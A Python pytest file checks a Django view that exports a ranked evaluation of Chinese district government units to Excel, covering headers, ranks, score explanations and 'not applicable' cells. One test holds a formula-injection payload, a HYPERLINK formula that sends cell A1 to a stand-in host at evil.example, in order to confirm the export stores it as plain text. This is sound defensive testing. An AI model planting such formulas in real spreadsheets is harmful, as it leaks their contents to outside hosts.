"""The ranked table exported to Excel, with Chinese headers and the reasons."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db


@pytest.fixture
def workbook(scenario, personas, client):
    client.force_login(personas.office)
    response = client.get(reverse("evaluation-export", args=[scenario.session.slug]))
    return load_workbook(io.BytesIO(response.content))


def test_the_export_has_a_row_per_ranked_unit(workbook):
    sheet = workbook["考核结果"]
    rows = [(r[0], r[1]) for r in sheet.iter_rows(min_row=3, max_col=2, values_only=True)]
    assert rows == [(1, "区商务局"), (2, "区人力资源和社会保障局")]


def test_the_export_headers_name_each_criterion_with_its_points(workbook):
    headers = [cell.value for cell in workbook["考核结果"][2]]
    assert headers[:4] == ["名次", "承办单位", "按时答复(25分)", "沟通面商(15分)"]


def test_the_export_explains_every_score(workbook):
    sheet = workbook["考核结果"]
    explanation = sheet.cell(row=4, column=sheet.max_column).value
    assert "按时答复:按时答复 2/4 件" in explanation


def test_the_export_shows_not_applicable_scores_as_such(workbook):
    sheet = workbook["考核结果"]
    headers = [cell.value for cell in sheet[2]]
    assert sheet.cell(row=3, column=headers.index("答复质量(20分)") + 1).value == "不涉及"


def test_a_unit_name_that_looks_like_a_formula_is_exported_as_text(scenario, personas, client):
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    scenario.other.name = attack
    scenario.other.save()
    client.force_login(personas.office)

    response = client.get(reverse("evaluation-export", args=[scenario.session.slug]))

    sheet = load_workbook(io.BytesIO(response.content))["考核结果"]
    cells = [row[1] for row in sheet.iter_rows(min_row=3, max_col=2)]
    named = next(cell for cell in cells if cell.value == attack)
    assert named.data_type == "s" and named.quotePrefix
    scores = [c for row in sheet.iter_rows(min_row=3, min_col=3) for c in row[:-1]]
    numbers = [c for c in scores if isinstance(c.value, float)]
    assert numbers and all(c.data_type == "n" for c in numbers)
